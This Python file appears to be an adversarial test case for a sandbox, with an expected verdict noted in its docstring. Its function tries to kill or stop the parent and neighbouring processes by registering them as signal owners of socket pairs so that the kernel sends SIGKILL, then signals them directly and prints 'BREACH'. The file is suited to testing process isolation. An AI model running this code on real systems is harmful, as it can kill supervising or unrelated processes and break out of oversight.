"""Makes the kernel send SIGKILL for it: it names its parent and the processes around it as owners of a pipe, and then
lets the pipe become readable. No call to kill is made for that.

Verdict: error LookupError
Class E.
"""

import contextlib
import fcntl
import os
import signal
import socket
import struct


def full_visibility(nonpadding):
    own = os.getpid()
    for number in sorted({os.getppid(), *range(max(2, own - 8), own)} - {own, 0, 1}):
        near, far = socket.socketpair()
        with contextlib.suppress(OSError), near, far:
            fcntl.fcntl(near, fcntl.F_SETOWN, number)
            fcntl.fcntl(near, 10, signal.SIGKILL)  # F_SETSIG
            fcntl.fcntl(near, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            far.send(b"!")
        near, far = socket.socketpair()
        with contextlib.suppress(OSError), near, far:
            for request in (0x8901, 0x8902):  # FIOSETOWN, SIOCSPGRP: the same by another call
                fcntl.ioctl(near, request, struct.pack("i", number))
            fcntl.ioctl(near, 0x5452, struct.pack("i", 1))  # FIOASYNC
            far.send(b"!")
        for other in (signal.SIGCONT, signal.SIGSTOP, signal.SIGTERM):
            with contextlib.suppress(OSError):
                os.kill(number, other)
                print("BREACH: signalled", number)
        with contextlib.suppress(OSError):
            os.killpg(number, signal.SIGCONT)
            print("BREACH: signalled the group", number)
    raise LookupError("nobody near")
